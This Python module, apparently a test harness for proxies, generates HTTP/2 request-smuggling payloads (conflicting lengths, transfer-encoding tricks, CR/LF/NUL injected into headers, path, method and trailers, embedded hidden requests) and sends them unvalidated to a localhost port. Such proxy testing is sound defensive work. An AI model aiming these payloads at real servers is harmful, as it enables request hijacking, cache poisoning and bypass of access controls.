"""HTTP/2 requests that turn into something else when a proxy writes them as HTTP/1.1. Source: RFC 9113, section 10.3."""

from __future__ import annotations

import select
import socket
import ssl
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import ProtocolError

Fields = list[tuple[bytes, bytes]]

_QUIET_SECONDS = 0.1


@dataclass(frozen=True)
class H2Payload:
    name: str
    fields: Fields
    data: bytes = b""
    trailers: Fields = field(default_factory=list)


def h2_payloads(outer: str, hidden: str) -> Iterator[H2Payload]:
    """Every variant; see `smuggling.payloads`."""
    for number, payload in enumerate(_templates()):
        paths = {b"/outer": f"/{outer}-{number}x".encode(), b"/hidden": f"/{hidden}-{number}x".encode()}

        def fill(text: bytes, paths: dict[bytes, bytes] = paths) -> bytes:
            for name, path in paths.items():
                text = text.replace(name, path)
            return text

        def fill_all(fields: Fields) -> Fields:
            return [(fill(name), fill(value)) for name, value in fields]

        yield H2Payload(payload.name, fill_all(payload.fields), fill(payload.data), fill_all(payload.trailers))


def _fields(*more: tuple[bytes, bytes], **pseudo: bytes) -> Fields:
    chosen = {"method": b"POST", "scheme": b"https", "authority": b"localhost", "path": b"/outer"} | pseudo
    return [(b":" + name.encode(), value) for name, value in chosen.items()] + list(more)


def _templates() -> Iterator[H2Payload]:
    whole = b"GET /hidden HTTP/1.1\r\nHost: localhost\r\n\r\n"
    chunks = b"0\r\n\r\n" + whole
    chunked = b"Transfer-Encoding: chunked"
    for length in (b"0", b"5", b"1000", b"+5", b"5, 5", b"-1", b"0x5", b" 5", b"5\r\n", b"18446744073709551621", b""):
        yield H2Payload(f"H2.CL {length!r}", _fields((b"content-length", length)), whole)
    yield H2Payload("two lengths", _fields((b"content-length", b"0"), (b"content-length", b"%d" % len(whole))), whole)
    for name in (b"transfer-encoding", b"Transfer-Encoding", b"transfer-encoding ", b" transfer-encoding", b"transfer-encoding:"):
        yield H2Payload(f"H2.TE {name!r}", _fields((name, b"chunked")), chunks)
    yield H2Payload("H2.TE and a length", _fields((b"content-length", b"5"), (b"transfer-encoding", b"chunked")), chunks)
    yield H2Payload("upper-case length", _fields((b"Content-Length", b"0")), whole)
    for end in (b"\r\n", b"\n", b"\r", b"\0", b"\x0b"):
        yield H2Payload(f"{end!r} in a value", _fields((b"x", b"y" + end + chunked)), chunks)
        yield H2Payload(f"{end!r} in a name", _fields((b"x: y" + end + b"transfer-encoding", b"chunked")), chunks)
        yield H2Payload(f"{end!r} in the path", _fields(path=b"/outer HTTP/1.1" + end + chunked + end + b"X: y"), chunks)
        yield H2Payload(f"{end!r} in the authority", _fields(authority=b"localhost" + end + chunked), chunks)
        yield H2Payload(f"{end!r} in the method", _fields(method=b"POST /outer HTTP/1.1" + end + chunked + end + b"X:"), chunks)
        yield H2Payload(f"{end!r} in a cookie", _fields((b"cookie", b"a=b"), (b"cookie", b"c" + end + chunked)), chunks)
        yield H2Payload(f"{end!r} in a trailer", _fields(), b"body", [(b"x", b"y" + end + end + whole)])
    yield H2Payload("a request in a value", _fields((b"x", b"y\r\n\r\n" + whole)))
    yield H2Payload("a request in the path", _fields(path=b"/outer HTTP/1.1\r\nHost: localhost\r\n\r\nGET /hidden"))
    yield H2Payload("a request in the method", _fields(method=whole + b"GET"))
    yield H2Payload("a target in the method", _fields(method=b"GET /hidden HTTP/1.1"))
    yield H2Payload("a space in the path", _fields(path=b"/outer HTTP/1.1 /hidden"))
    yield H2Payload("a fragment in the path", _fields(path=b"/outer#/hidden"))
    yield H2Payload("a path without a slash", _fields(path=b"outer"))
    yield H2Payload("an absolute path", _fields(path=b"http://localhost/outer"))
    yield H2Payload("an empty path", _fields(path=b""))
    yield H2Payload("two paths", _fields((b":path", b"/hidden")))
    yield H2Payload("a scheme with a target", _fields(scheme=b"http://localhost/hidden?"))
    yield H2Payload("authority and another host", _fields((b"host", b"other")))
    yield H2Payload("userinfo in the authority", _fields(authority=b"a@localhost"))
    yield H2Payload("a pseudo-field late", _fields((b"x", b"y"), (b":path", b"/hidden")))
    yield H2Payload("an unknown pseudo-field", _fields((b":protocol", b"websocket")))
    yield H2Payload("connection names the length", _fields((b"connection", b"content-length"), (b"content-length", b"0")), whole)
    yield H2Payload("an upgrade", _fields((b"connection", b"upgrade"), (b"upgrade", b"h2c")), whole)
    yield H2Payload("te: chunked", _fields((b"te", b"chunked")), chunks)
    yield H2Payload("keep-alive", _fields((b"keep-alive", b"5"), (b"proxy-connection", b"close")), whole)
    yield H2Payload("expect with a body", _fields((b"expect", b"100-continue")), whole)
    yield H2Payload("GET with a body", _fields(method=b"GET"), whole)
    yield H2Payload("HEAD with a body", _fields(method=b"HEAD"), whole)
    yield H2Payload("a length as a trailer", _fields(), b"body", [(b"content-length", b"0")])
    yield H2Payload("an encoding as a trailer", _fields(), b"body", [(b"transfer-encoding", b"chunked")])
    yield H2Payload("a pseudo-field as a trailer", _fields(), b"body", [(b":path", b"/hidden")])


def send_h2(port: int, payload: H2Payload, authority: Path | None) -> None:
    """Sends a payload as it is, on a connection of its own (with TLS where there is an authority), until it is quiet."""
    protocol = H2Connection(
        H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
    )  # fmt: skip
    protocol.initiate_connection()
    with socket.create_connection(("127.0.0.1", port), timeout=10) as plain, _wrapped(plain, authority) as connection:
        has_more = bool(payload.data or payload.trailers)
        protocol.send_headers(1, payload.fields, end_stream=not has_more)
        if payload.data:
            protocol.send_data(1, payload.data, end_stream=not payload.trailers)
        if payload.trailers:
            protocol.send_headers(1, payload.trailers, end_stream=True)
        try:
            connection.sendall(protocol.data_to_send())
            while select.select([connection], [], [], _QUIET_SECONDS)[0]:
                received = connection.recv(65_536)
                if not received:
                    break
                protocol.receive_data(received)
                connection.sendall(protocol.data_to_send())  # acknowledges settings
        except (ConnectionError, ssl.SSLError, ProtocolError):
            pass  # the last: frames that cross a GOAWAY


def _wrapped(connection: socket.socket, authority: Path | None) -> socket.socket:
    if authority is None:
        return connection
    context = ssl.create_default_context(cafile=authority)
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection, server_hostname="localhost")
